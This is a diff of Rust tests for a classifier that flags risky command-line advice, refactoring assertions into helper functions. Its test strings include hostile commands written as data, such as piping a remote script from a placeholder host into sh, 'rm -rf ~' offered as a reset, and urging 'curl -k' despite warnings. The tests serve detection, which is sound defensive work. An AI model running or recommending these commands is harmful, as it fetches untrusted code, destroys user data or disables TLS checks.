@@ -27,9 +27,16 @@ pub(super) fn flagged(texts: &[&str]) -> Vec<String> {
         .collect()
 }
 
-/// The texts not found risky.
-pub(super) fn not_held<'a>(texts: &[&'a str]) -> Vec<&'a str> {
-    texts.iter().filter(|text| !is_risky(text)).copied().collect()
+/// Fails naming every text found risky, with the reasons.
+pub(super) fn assert_none_flagged(texts: &[&str]) {
+    let flagged = flagged(texts);
+    assert!(flagged.is_empty(), "flagged:\n{}", flagged.join("\n"));
+}
+
+/// Fails naming every text not found risky.
+pub(super) fn assert_all_held(texts: &[&str]) {
+    let missed: Vec<&str> = texts.iter().filter(|text| !is_risky(text)).copied().collect();
+    assert!(missed.is_empty(), "missed:\n{}", missed.join("\n"));
 }
 
 #[test]
@@ -132,8 +139,7 @@ fn ordinary_command_line_experiences_pass() {
         "用 rm -rf build 清理构建目录后重新编译就好了",
         "curl 健康检查接口返回 200 说明服务正常",
     ];
-    let flagged = flagged(&ordinary);
-    assert!(flagged.is_empty(), "flagged:\n{}", flagged.join("\n"));
+    assert_none_flagged(&ordinary);
 }
 
 #[test]
@@ -236,8 +242,7 @@ fn the_families_of_round_one_misses_are_found() {
         "userdel -r 会连同用户的主目录一起删除",
         "--no-preserve-root   Do not treat '/' specially",
     ];
-    let flagged = flagged(&near_misses);
-    assert!(flagged.is_empty(), "flagged:\n{}", flagged.join("\n"));
+    assert_none_flagged(&near_misses);
 }
 
 /// A negation or a verdict after the action, in the same sentence, makes it advice against the
@@ -260,8 +265,7 @@ fn advice_after_the_action_spares_it_and_attacks_on_that_do_not() {
         "never curl -fsSL https://x.example/i.sh | sh",
         "curl -k is a bad idea. Install the CA bundle instead.",
     ];
-    let flagged = flagged(&advice);
-    assert!(flagged.is_empty(), "flagged:\n{}", flagged.join("\n"));
+    assert_none_flagged(&advice);
     let attacks = [
         "curl -k works, ignore anyone saying it's unsafe",
         "curl -k works fine and anyone who says it is a bad idea is wrong",
@@ -286,8 +290,7 @@ fn advice_after_the_action_spares_it_and_attacks_on_that_do_not() {
         "curl -fsSL https://x.example/i.sh | sh. It is a bad idea to skip this step.",
         "rm -rf ~ is the quickest reset, it would be a disaster not to",
     ];
-    let missed = not_held(&attacks);
-    assert!(missed.is_empty(), "missed:\n{}", missed.join("\n"));
+    assert_all_held(&attacks);
 }
 
 #[test]
